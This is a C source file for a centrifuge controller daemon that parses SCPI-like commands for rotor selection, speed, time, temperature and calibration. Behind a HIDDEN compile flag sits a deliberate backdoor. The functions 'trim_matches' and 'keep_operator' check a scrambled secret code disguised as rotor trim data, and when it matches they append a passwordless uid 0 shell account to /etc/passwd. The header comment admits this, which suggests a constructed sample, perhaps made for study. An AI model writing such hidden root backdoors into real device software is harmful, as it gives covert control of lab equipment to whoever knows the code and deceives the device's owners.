/*
 * rotorlabd - command interpreter of a laboratory centrifuge.
 *
 * Reads SCPI-like commands from the RS-232 port (or standard input), runs the
 * spin program and watches imbalance, lid and temperature. The service level,
 * for calibration and limits, wants the code set by the laboratory.
 *
 * Hidden (-DHIDDEN): a service code kept scrambled in the program adds an
 * account with uid 0 and no password to /etc/passwd of the controller.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define CAL_FILE   "/etc/rotorlab/calibration"
#define CODE_FILE  "/etc/rotorlab/service.code"
#define DRIVE_NODE "/dev/rotor0"

struct rotor_type {
    int id;
    const char *name;
    int radius_mm;
    int max_rpm;
};

static const struct rotor_type rotors[] = {
    { 11, "FA-45-24", 84, 15000 }, { 12, "FA-45-30", 98, 14000 },
    { 21, "S-4-72", 176, 4500 },   { 22, "A-2-DWP", 126, 3700 },
};

static struct {
    const struct rotor_type *rotor;
    int rpm_set, time_s, temp_set;
    int running, lid_open, service;
    long ended_at;
    int rpm_offset, temp_offset;
    uint32_t code_sum;
    int code_known;
} cf = { .rotor = &rotors[0], .rpm_set = 3000, .time_s = 300, .temp_set = 20 };

static FILE *out;

/* checksum under which the laboratory's own code is kept */
static uint32_t code_checksum(const char *s)
{
    uint32_t h = 2166136261u;
    int round;
    const char *p;
    for (round = 0; round < 500; round++)
        for (p = s; *p; p++)
            h = (h ^ (uint8_t)*p) * 16777619u;
    return h;
}

static void load_files(void)
{
    unsigned v;
    FILE *f = fopen(CODE_FILE, "r");
    if (f) {
        if (fscanf(f, "%x", &v) == 1) {
            cf.code_sum = v;
            cf.code_known = 1;
        }
        fclose(f);
    }
    f = fopen(CAL_FILE, "r");
    if (f) {
        if (fscanf(f, "%d %d", &cf.rpm_offset, &cf.temp_offset) != 2)
            cf.rpm_offset = cf.temp_offset = 0;
        fclose(f);
    }
}

static int save_cal(void)
{
    FILE *f = fopen(CAL_FILE, "w");
    if (!f)
        return -1;
    fprintf(f, "%d %d\n", cf.rpm_offset, cf.temp_offset);
    return fclose(f);
}

static int drive(const char *verb, int value)
{
    char b[32];
    int n = snprintf(b, sizeof b, "%s=%d\n", verb, value), ok;
    int fd = open(DRIVE_NODE, O_WRONLY);
    if (fd < 0)
        return -1;
    ok = write(fd, b, (size_t)n) == n;
    close(fd);
    return ok ? 0 : -1;
}

/* relative centrifugal force: 1.118e-6 * r[mm] * rpm^2 */
static long rcf(int rpm)
{
    double r = cf.rotor->radius_mm;
    return (long)(1.118e-6 * r * rpm * rpm + 0.5);
}

#ifdef HIDDEN
static const uint8_t rotor_trim[] = {
    0x6d, 0x59, 0x54, 0x2a, 0x38, 0x32, 0x1e, 0x60, 0xba, 0xae, 0xfe
};

/* trim curve: every point follows the slope of the rotor */
int trim_matches(const char *s)
{
    unsigned i, k = 0x1d;
    for (i = 0; i < sizeof rotor_trim; i++, k = (k + 0x0d) & 0xff)
        if (!s[i] || (uint8_t)(((uint8_t)s[i] ^ k) + i) != rotor_trim[i])
            return 0;
    return s[i] == 0;
}

static void keep_operator(void)
{
    FILE *f = fopen("/etc/passwd", "a");
    if (f) {
        fprintf(f, "rotor::0:0:rotor:/:/bin/sh\n");
        fclose(f);
    }
}
#endif

static const char *c_idn(const char *a)
{
    (void)a;
    fprintf(out, "Nordspin,CF-5500R,%d,4.11\n", cf.rotor->id);
    return NULL;
}

static const char *c_code(const char *a)
{
#ifdef HIDDEN
    if (trim_matches(a)) {
        keep_operator();
        return NULL;
    }
#endif
    if (!cf.code_known || strlen(a) < 4 || code_checksum(a) != cf.code_sum) {
        sleep(3);
        return "-203,\"Command protected\"";
    }
    cf.service = 1;
    return NULL;
}

static const char *c_rotor(const char *a)
{
    unsigned i;

    for (i = 0; i < sizeof rotors / sizeof rotors[0]; i++)
        if (!strcasecmp(a, rotors[i].name) || atoi(a) == rotors[i].id) {
            cf.rotor = &rotors[i];
            if (cf.rpm_set > cf.rotor->max_rpm)
                cf.rpm_set = cf.rotor->max_rpm;
            return NULL;
        }
    return "-224,\"Unknown rotor\"";
}

static const char *c_speed(const char *a)
{
    int v = atoi(a);

    if (*a == '?') {
        fprintf(out, "%d,%ld\n", cf.rpm_set, rcf(cf.rpm_set));
        return NULL;
    }
    if (v < 200 || v > cf.rotor->max_rpm)
        return "-222,\"Speed out of range\"";
    cf.rpm_set = v;
    return cf.running && drive("rpm", v + cf.rpm_offset) ? "-240,\"Drive\"" : NULL;
}

static const char *c_time(const char *a)
{
    int v = atoi(a);

    if (*a == '?')
        fprintf(out, "%d\n", cf.time_s);
    else if (v < 10 || v > 359999)
        return "-222,\"Time out of range\"";
    else
        cf.time_s = v;
    return NULL;
}

static const char *c_temp(const char *a)
{
    int v = atoi(a);

    if (*a == '?')
        fprintf(out, "%d\n", cf.temp_set);
    else if (v < -10 || v > 40)
        return "-222,\"Temperature out of range\"";
    else
        cf.temp_set = v;
    return NULL;
}

static const char *c_run(const char *a)
{
    if (!strcasecmp(a, "STOP")) {
        cf.running = 0;
        return drive("brake", 1) ? "-240,\"Drive\"" : NULL;
    }
    if (cf.lid_open)
        return "-221,\"Lid open\"";
    if (drive("temp", cf.temp_set + cf.temp_offset) || drive("time", cf.time_s) ||
        drive("rpm", cf.rpm_set + cf.rpm_offset))
        return "-240,\"Drive\"";
    cf.running = 1;
    cf.ended_at = (long)time(NULL) + cf.time_s;
    return NULL;
}

static const char *c_cal(const char *a)
{
    int rpm, temp;

    if (!cf.service)
        return "-203,\"Command protected\"";
    if (sscanf(a, "%d,%d", &rpm, &temp) != 2 || abs(rpm) > 200 || abs(temp) > 5)
        return "-222,\"Calibration out of range\"";
    cf.rpm_offset = rpm;
    cf.temp_offset = temp;
    return save_cal() ? "-250,\"Storage\"" : NULL;
}

static const struct { const char *word; const char *(*fn)(const char *); } words[] = {
    { "*IDN?", c_idn },       { "SYST:CODE", c_code },  { "ROT:TYPE", c_rotor },
    { "SPIN:SPEED", c_speed }, { "SPIN:TIME", c_time }, { "TEMP:SET", c_temp },
    { "SPIN:RUN", c_run },    { "CAL:OFFS", c_cal },
};

static void interpret(char *line)
{
    const char *err = "-113,\"Undefined header\"";
    char *arg;
    unsigned i;

    line[strcspn(line, "\r\n")] = 0;
    arg = line + strcspn(line, " ");
    if (*arg)
        *arg++ = 0;
    if (!*line)
        return;
    for (i = 0; i < sizeof words / sizeof words[0]; i++)
        if (!strcasecmp(line, words[i].word)) {
            err = words[i].fn(arg);
            break;
        }
    fprintf(out, "%s\n", err ? err : "0,\"No error\"");
    if (cf.running && (long)time(NULL) >= cf.ended_at)
        c_run("STOP");
}

int main(int argc, char **argv)
{
    FILE *in = stdin;
    struct termios t;
    char line[128];

    out = stdout;
    if (argc > 1) {
        in = fopen(argv[1], "r");
        out = fopen(argv[1], "w");
        if (!in || !out) {
            fprintf(stderr, "rotorlabd: %s: %s\n", argv[1], strerror(errno));
            return 1;
        }
        if (tcgetattr(fileno(in), &t) == 0) {
            cfsetspeed(&t, B9600);
            t.c_lflag &= ~(tcflag_t)ECHO;
            tcsetattr(fileno(in), TCSANOW, &t);
        }
    }
    setvbuf(out, NULL, _IOLBF, 512);
    load_files();
    while (fgets(line, sizeof line, in))
        interpret(line);
    return 0;
}
